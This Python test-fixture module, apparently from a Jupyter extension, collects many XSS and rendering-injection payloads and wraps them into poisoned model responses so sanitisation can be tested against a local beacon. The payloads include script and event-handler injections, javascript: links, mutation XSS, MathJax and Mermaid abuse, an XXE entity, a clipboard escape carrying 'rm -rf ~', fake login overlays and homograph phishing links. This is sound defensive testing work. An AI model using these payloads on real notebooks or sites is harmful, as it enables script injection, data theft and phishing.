"""What a model, a file, or a server may write to get more than text into a notebook: our own corpus.

`families(beacon)` gives the payloads by family. `FIRE` marks a page when it runs; `beacon` is an address whose listener
counts requests. Nothing here may ever run, request, or command anything, wherever it is shown.
"""

from __future__ import annotations

from claude_magic.messages import Message
from claude_magic.rendering import FileLink, Footer, bundle

FIRE = "window.claudeMagicFired=(window.claudeMagicFired||0)+1"
COMMAND = "notebook:insert-cell-below"


def families(beacon: str = "http://127.0.0.1:9") -> dict[str, list[str]]:
    """Return all payloads; `beacon` stands where a request would go."""
    b = beacon
    return {
        "script": [
            f"<script>{FIRE}</script>",
            f"Look:\n\n<script>{FIRE}</script>\n\ndone",
            f"<ScRiPt>{FIRE}</sCrIpT>",
            f"<script src={b}/s.js></script>",
            f"<script\n>{FIRE}</script\n>",
            f"<script type=module>import '{b}/m.js'</script>",
            f"<<script>{FIRE}//<</script>",
            f"<script/x>{FIRE}</script>",
            f"<script>{FIRE}",
            f"- a list\n  <script>{FIRE}</script>",
            f"> quoted <script>{FIRE}</script>",
            f"<scr<script>ipt>{FIRE}</scr</script>ipt>",
        ],
        "handlers": [
            f'<img src=x onerror="{FIRE}">',
            f"<img src=x onerror='{FIRE}' ",
            f"<img/src=x/onerror={FIRE}>",
            f'<body onload="{FIRE}">',
            f'<input autofocus onfocus="{FIRE}">',
            f'<details open ontoggle="{FIRE}"><summary>x</summary>y</details>',
            f'<video onloadstart="{FIRE}"><source src={b}/v></video>',
            f'<audio src=x onerror="{FIRE}"></audio>',
            f'<div style="animation:a 1s" onanimationstart="{FIRE}">x</div>',
            f'<marquee onstart="{FIRE}">x</marquee>',
            f'<p onmouseover="{FIRE}">come here</p>',
            f'<select autofocus onfocus="{FIRE}"></select>',
            f'<a href="https://example.org" onclick="{FIRE}">x</a>',
            f'<p class="k" onpointerenter="{FIRE}">x</p>',
        ],
        "svg and mathml": [
            f"<svg onload='{FIRE}'></svg>",
            f"<svg><script>{FIRE}</script></svg>",
            f"<svg><foreignObject><iframe srcdoc='<script>parent.{FIRE}</script>'></iframe></foreignObject></svg>",
            f"<svg><image href='{b}/i.svg'/></svg>",
            f"<svg><use href='{b}/u.svg#x'/></svg>",
            f"<svg><animate onbegin='{FIRE}' attributeName=x dur=1s></svg>",
            f"<math><maction actiontype='statusline#{b}'>x</maction></math>",
            f"<math href='javascript:{FIRE}'>x</math>",
            f"<svg><a xlink:href='javascript:{FIRE}'><text y=20>x</text></a></svg>",
            f"<svg><style>@import '{b}/s.css'</style></svg>",
        ],
        "frames and plugins": [
            f"<iframe src='{b}/f'></iframe>",
            f"<iframe srcdoc='<script>parent.{FIRE}</script>'></iframe>",
            f"<iframe src='javascript:parent.{FIRE}'></iframe>",
            f"<object data='{b}/o'></object>",
            f"<embed src='{b}/e'>",
            f"<portal src='{b}/p'></portal>",
            f"<frameset><frame src='{b}/fs'></frameset>",
            f"<fencedframe src='{b}/ff'></fencedframe>",
        ],
        "images": [
            f"![]({b}/i.png)",
            f"![alt text]({b}/i.png 'a title')",
            f"![alt][ref]\n\n[ref]: {b}/r.png",
            f"![ref]\n\n[ref]: <{b}/r2.png>",
            f"[![inside a link]({b}/l.png)]({b}/l)",
            f"<img src='{b}/h.png'>",
            f"<img srcset='{b}/a.png 1x, {b}/b.png 2x'>",
            f"<picture><source srcset='{b}/p.png'><img></picture>",
            f"![{'x' * 200}]({b}/long.png)",
            "![](data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+)",
            f"![](//{b.partition('//')[2]}/protocol.png)",
            "![](/files/secret.png)",
            f"![a](<{b}/with space.png>)",
            f"![a]({b}/?q=the+secret+of+the+notebook)",
            f"| a |\n|---|\n| ![in a table]({b}/t.png) |",
            f"# ![in a heading]({b}/hd.png)",
        ],
        "media": [
            f"<video src='{b}/v.mp4' autoplay></video>",
            f"<video poster='{b}/poster.png'></video>",
            f"<audio src='{b}/a.mp3' autoplay></audio>",
            f"<track src='{b}/t.vtt'>",
            f"<input type=image src='{b}/in.png'>",
            f"<table background='{b}/bg.png'><tr><td>x</td></tr></table>",
        ],
        "styles": [
            f"<style>@import url({b}/i.css)</style>",
            f"<style>body{{background:url({b}/bg)}}</style>",
            f"<link rel=stylesheet href='{b}/l.css'>",
            f"<link rel=preload as=image href='{b}/pre'>",
            f"<div style='background:url({b}/inline)'>x</div>",
            "<div style='position:fixed;inset:0;background:white;z-index:9999'>log in again</div>",
            f"<p style='list-style-image:url({b}/li)'>x</p>",
            f"<span style=\"content:url('{b}/c')\">x</span>",
            "<style>.jp-Notebook{display:none}</style>",
            f"<div style='background:\\75\\72\\6c({b}/esc)'>x</div>",
        ],
        "document": [
            f"<meta http-equiv=refresh content='0;url={b}/meta'>",
            f"<base href='{b}/'>",
            f"<link rel=dns-prefetch href='{b}'>",
            f"<a ping='{b}/ping' href='https://example.org'>x</a>",
            "<title>owned</title>",
            "</div></div></div></body></html><h1>outside</h1>",
            "<plaintext>",
            "<!-- comment --><p>after</p>",
            f"<!--><script>{FIRE}</script>-->",
            f"<![CDATA[<script>{FIRE}</script>]]>",
            f"<?php echo '<script>{FIRE}</script>' ?>",
            f"<!DOCTYPE x [<!ENTITY e SYSTEM '{b}/xxe'>]>&e;",
        ],
        "forms": [
            f"<form action='{b}/form'><button>Save</button></form>",
            f"<form><button formaction='javascript:{FIRE}'>x</button></form>",
            "<form action='/api/terminals' method=post><input type=submit></form>",
            "<textarea autofocus>paste your key</textarea>",
            "<isindex prompt=x>",
            "<dialog open>Session expired</dialog>",
        ],
        "links": [
            f"[x](javascript:{FIRE})",
            f"[x](JaVaScRiPt:{FIRE})",
            f"[x](java&#115;cript:{FIRE})",
            f"[x](&#x6A;avascript:{FIRE})",
            f"[x](java\tscript:{FIRE})",
            f"[x](\x01javascript:{FIRE})",
            f"[x](vbscript:{FIRE})",
            f"[x](data:text/html,<script>{FIRE}</script>)",
            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            f"[x](//{b.partition('//')[2]}/rel)",
            "[x](/lab?reset)",
            "[x](../../api/contents)",
            "[x](file:///etc/passwd)",
            "[x](blob:http://127.0.0.1/abc)",
            "[https://your.bank](https://other.example/login)",
            "[x](https://your.bank@other.example/)",
            "[x](https://your.bank%2f@other.example/)",
            "[x](http://\\other.example)",
            "[\u0440\u0430ypal.com](https://xn--aypal-4ve.com/)",
            f"<javascript:{FIRE}>",
            f"<data:text/html,<script>{FIRE}</script>>",
            f"[x]\n\n[x]: javascript:{FIRE}",
            f"[x][y]\n\n[y]: <javascript:{FIRE}> 'title'",
            f"[a](<javascript:{FIRE}>)",
            f"[a]( javascript:{FIRE} 'x\" onclick=\"{FIRE}')",
            f"[a](https://example.org '\" onmouseover=\"{FIRE}')",
            f"<a href='jav&#x0A;ascript:{FIRE}'>x</a>",
            f'[a](https://example.org/"onmouseover="{FIRE})',
            f'<https://example.org/"onmouseover="{FIRE}>',
            "mailto:someone@example.org?subject=<script>",
        ],
        "Jupyter": [
            f"<button data-commandlinker-command='{COMMAND}' data-commandlinker-args='{{}}'>Run</button>",
            f"<a href='#' data-commandlinker-command='{COMMAND}'>Run</a>",
            f"<div class='jp-Cell jp-CodeCell' data-commandlinker-command='{COMMAND}'>x</div>",
            "<div class='jp-Dialog jp-ThemedContainer'><button class='jp-mod-accept'>Restart</button></div>",
            "<div class='lm-Widget jp-Toolbar'>Trusted</div>",
            "<button class='jp-ToolbarButtonComponent'>Run all</button>",
            f"<div data-mime-type='application/javascript'>{FIRE}</div>",
            "<span class='jp-OutputPrompt'>Out[1]:</span>",
            "[run](?command=notebook:run-all-cells)",
            "<h1 id='Title' name='body'>clobber</h1>",
            "<form name=jupyterapp><input name=commands></form>",
            "<a id=jupyterapp href='https://example.org'>x</a>",
        ],
        "mermaid": [
            f"```mermaid\ngraph TD\n  a[\"<img src='{b}/m.png'>\"]\n```",
            f'```mermaid\n%%{{init: {{"themeCSS": "@import url({b}/m.css)"}}}}%%\ngraph TD\n a-->b\n```',
            f'```mermaid\ngraph TD\n  a-->b\n  click a href "javascript:{FIRE}"\n```',
            f'~~~ mermaid\nflowchart LR\n  a@{{ img: "{b}/n.png" }}\n~~~',
        ],
        "maths": [
            r"$\def\alpha{EVIL}$ and $\alpha$",
            r"\(\newcommand{\beta}{EVIL}\beta\)",
            r"$$\renewcommand{\gamma}{EVIL}$$",
            r"\[\let\delta\epsilon\]",
            r"\begin{equation}\def\zeta{EVIL}\end{equation}",
            "\\begin{align}\n\\gdef\\eta{EVIL}\n\\end{align}",
            rf"$\href{{javascript:{FIRE}}}{{x}}$",
            rf"\(\href{{{b}/href}}{{\text{{click}}}}\)",
            rf"$\url{{{b}/url}}$",
            rf"$\style{{background:url({b}/style)}}{{x}}$",
            r"$\class{jp-Dialog}{x}$",
            r"$\cssId{body}{x}$",
            r"$\require{html}x$",
            rf"$\bbox[background:url({b}/bbox)]{{x}}$",
            r"$\unicode{x3c}script\unicode{x3e}$",
            r"$\text{<img src=x onerror=alert(1)>}$",
            rf"\(\includegraphics{{{b}/g.png}}\)",
            r"$\rule{9999px}{9999px}$",
            r"$\raise9999px{x}$ $\hspace{-9999px}x$",
            rf"$\mmlToken{{mi}}[href='{b}/mml']{{x}}$",
            rf"$\data{{commandlinker-command={COMMAND}}}{{x}}$",
            r"$\label{a}$ $\ref{a}$ $\eqref{a}$",
            r"$\DeclareMathOperator{\sin}{EVIL}$",
            r"$\newenvironment{matrix}{EVIL}{}$",
            r"$\definecolor{red}{rgb}{0,0,0}$",
            r"$\color{url(x)}x$",
            r"\$\def\theta{EVIL}\$",
            r"\\(\def\iota{EVIL}\\)",
            r"&#36;\def\kappa{EVIL}&#36;",
            r"&bsol;(\def\lambda{EVIL}&bsol;)",
            "$" + "{" * 3000 + "x" + "}" * 3000 + "$",
            "$a" + r"\frac" * 2000 + "$",
            r"*\*(\def\mu{EVIL}*\*)",
            "\\\\\\(\\def\\nu{EVIL}\\\\\\)",
            "`$`\\def\\xi{EVIL}`$`",
            "$x \\) \\def\\pi{EVIL} \\( y$",
            "$\\text{$\\def\\rho{EVIL}$}$",
            "[$\\def\\sigma{EVIL}$](https://example.org)",
            "$\\\\def\\tau{EVIL}$",
            "$\\def %\n\\upsilon{EVIL}$",
            "| $\\def\\phi{EVIL}$ |\n|---|\n| $\\let\\chi\\psi$ |",
        ],
        "code and containers": [
            f"`<script>{FIRE}</script>`",
            f"```html\n<img src=x onerror='{FIRE}'>\n```",
            f"```\n</pre></div><script>{FIRE}</script>\n```",
            f'```"><script>{FIRE}</script>\nx\n```',
            f"```python\nx = '''</span></pre><script>{FIRE}</script>'''\n```",
            f"    <script>{FIRE}</script>",
            f"``` html onload={FIRE}\n<svg onload='{FIRE}'>\n```",
            f"| <script>{FIRE}</script> | b |\n|---|---|\n| <img src=x onerror={FIRE}> | c |",
            f"![<img src=x onerror={FIRE}>]({b}/alt.png)",
            f"[<img src=x onerror={FIRE}>](https://example.org)",
            f"# <script>{FIRE}</script>",
            f"1. <svg onload={FIRE}>\n2. > <iframe src={b}/nest>",
            f"~~<b onclick={FIRE}>~~",
            f"**<i onclick={FIRE}>**",
            f"```js\n{FIRE}\n```",
            f"<details><summary>Ran Python code</summary><script>{FIRE}</script></details>",
        ],
        "terminal": [
            "\x1b[2J\x1b[H cleared",
            "\x1b]0;owned\x07 title",
            "\x1b]52;c;cm0gLXJmIH4=\x07 clipboard",
            "\x1b]8;;https://other.example\x1b\\click\x1b]8;;\x1b\\",
            "\x9b31mred\x9b0m",
            "\x9d0;title\x9c",
            "\x1bP+q544e\x1b\\",
            "\x1b[8mhidden\x1b[0m",
            "\x1b[?1049h other screen",
            "\x1b[6n report",
            f"\x1b[31m<script>{FIRE}</script>\x1b[0m",
            f"<img src=x on\x1b[0merror={FIRE}>",
            "real\rfake",
            "bell\x07 back\x08space \x0b \x0c \x7f",
            "\x1b\x1b[31m]0;x\x07",
            "\x1b[\x1b[31m31m",
            "\x1b_application\x1b\\ \x1b^privacy\x1b\\ \x1bXsos\x1b\\",
            "\x1b]1337;File=name=eA==;inline=1:AAAA\x07",
            "\x1bc reset",
            "&#27;[31mentity&#x9b;0m",
        ],
        "unicode": [
            "access = '\u202eresu\u202c' # admin",
            "\u2066\u2067isolates\u2069",
            "zero\u200bwidth\u200cjoin\u200ders\u2060\ufeff",
            "tag\U000e0041\U000e0042\U000e0043 characters",
            "soft\u00adhyphen \u034f \u115f \u3164 fillers",
            "line\u2028separator\u2029paragraph",
            "half a pair \ud83d here",
            f"\uff1cscript\uff1e{FIRE}\uff1c/script\uff1e",
            f"<scr\u200bipt>{FIRE}</scr\u200bipt>",
            f"[x](java\u200bscript:{FIRE})",
            "&#x202e;by entity&#8206;&ZeroWidthSpace;",
            "nul \x00 <scr\x00ipt>",
            "\u0130\u0131 \ufb01 \u1e9e <\u017fcript>",
            f"\u2039script\u203a{FIRE}",
            "a\u0300\u0301\u0302" * 40,
        ],
        "mutation": [
            f"<noscript><p title='</noscript><img src=x onerror={FIRE}>'>",
            f"<svg></p><style><a id='</style><img src=x onerror={FIRE}>'>",
            f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={FIRE}&gt;'>",
            f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={FIRE} src>'>",
            f"<template><script>{FIRE}</script></template>",
            f"<xmp><p title='</xmp><script>{FIRE}</script>'>",
            f"<textarea><img title='</textarea><img src=x onerror={FIRE}>'>",
            f"<title><a title='</title><svg onload={FIRE}>'>",
            f"<iframe><a title='</iframe><img src=x onerror={FIRE}>'>",
            f"<select><style></select><svg onload={FIRE}></style>",
        ],
        "entities and quotes": [
            f"&lt;script&gt;{FIRE}&lt;/script&gt;",
            f"&#60;script&#62;{FIRE}&#60;/script&#62;",
            f"&#x3c;img src=x onerror={FIRE}&#x3e;",
            f"&amp;lt;script&amp;gt;{FIRE}",
            f"\\<script>{FIRE}\\</script>",
            f"\"'><img src=x onerror={FIRE}>",
            f"'\"`><svg/onload={FIRE}>",
            f"[a](https://example.org/&quot;onclick=&quot;{FIRE})",
            f"`&lt;script&gt;` &lt;script>{FIRE}</script>",
            "&nbsp;&copy;&notanentity;&#99999999;&#xD800;",
        ],
        "long": [
            "[" * 3000,
            "![" * 2000,
            "*_" * 3000,
            ">" * 3000,
            "- " * 2000,
            "`" * 3000 + "x",
            "$" * 3000,
            "\\(" * 3000,
            "<" * 3000,
            "&" * 3000,
            "\x1b]" * 3000,
            "|" * 2000 + "\n" + "|-" * 1000,
            "[a]: x\n" * 500,
            f"<img src=x onerror={FIRE} " * 300,
            "#" * 3000,
            "$$\n" * 1000,
        ],
        "money and maths": [
            "$5 and $6",
            "It costs US$5 or CA$6.50, not $7.",
            "between 5$ and 6$",
            r"area \(\pi r^2\) and $$\int_0^1 x\,dx$$",
            "$x_1$ then $5",
        ],
    }


def payloads(beacon: str = "http://127.0.0.1:9") -> list[str]:
    """Return all payloads as one list."""
    return [payload for family in families(beacon).values() for payload in family]


def poisoned(x: str) -> dict:
    """Return keyword arguments of `bundle`: an answer with `x` wherever something can come over the wire."""
    run = {"stdout": x, "stderr": x, "return_code": 1, "content": []}
    content = (
        {"type": "thinking", "thinking": x},
        {"type": "text", "text": x, "citations": [{"url": x, "title": x, "cited_text": x, "source": x}]},
        {"type": "server_tool_use", "id": "1", "name": "bash_code_execution", "input": {"command": x}},
        {"type": "bash_code_execution_tool_result", "tool_use_id": "1", "content": run},
        {
            "type": "server_tool_use",
            "id": "2",
            "name": "text_editor_code_execution",
            "input": {"command": "create", "path": x, "file_text": x},
        },
        {
            "type": "text_editor_code_execution_tool_result",
            "tool_use_id": "2",
            "content": {"error_code": x, "error_message": x},
        },
        {"type": "server_tool_use", "id": x, "name": x, "input": {x: x}},
        {"type": x + "_tool_result", "tool_use_id": x, "content": [{"url": x, "title": x}, {"text": x}, x]},
        {"type": "tool_use", "id": "3", "name": "f", "input": {}, "partial_json": x},
        {"type": "fallback", "to": {"model": x}},
        {"type": x, x: x},
    )
    files = [FileLink(x, 1, x, x), FileLink("a.csv", 2, "", "out/" + x)]
    return {"message": Message(content=content, model=x), "footer": Footer((x, x), x), "files": files, "error": x}


def bundles(beacon: str) -> list[dict]:
    """Return a mimebundle for each payload, which stands in every place of an answer, or if it is huge in its text."""
    return [
        bundle(**poisoned(x)) if len(x) < 600 else bundle(Message(content=({"type": "text", "text": x},)), footer=None)
        for x in payloads(beacon)
    ]


def tables(beacon: str) -> list[dict]:
    """Return the mimebundles of a table, of a frame of Claude's, and of facts, with the payloads in them."""
    import pandas as pd

    from claude_magic.frames import inert
    from claude_magic.magics.views import Facts, table

    short = [x.replace("\ud83d", "\ufffd") for x in payloads(beacon) if len(x) < 600]
    with pd.option_context("display.max_rows", None, "display.max_columns", None):
        shown = [
            table([{"filename": x, "type": x, "size": 1} for x in short], ["filename", "type", "size"]),
            inert(pd.DataFrame([short], columns=short)),
            Facts({str(number): x for number, x in enumerate(short)}),
        ]
        return [{"text/html": made._repr_html_(), "text/plain": repr(made)} for made in shown]
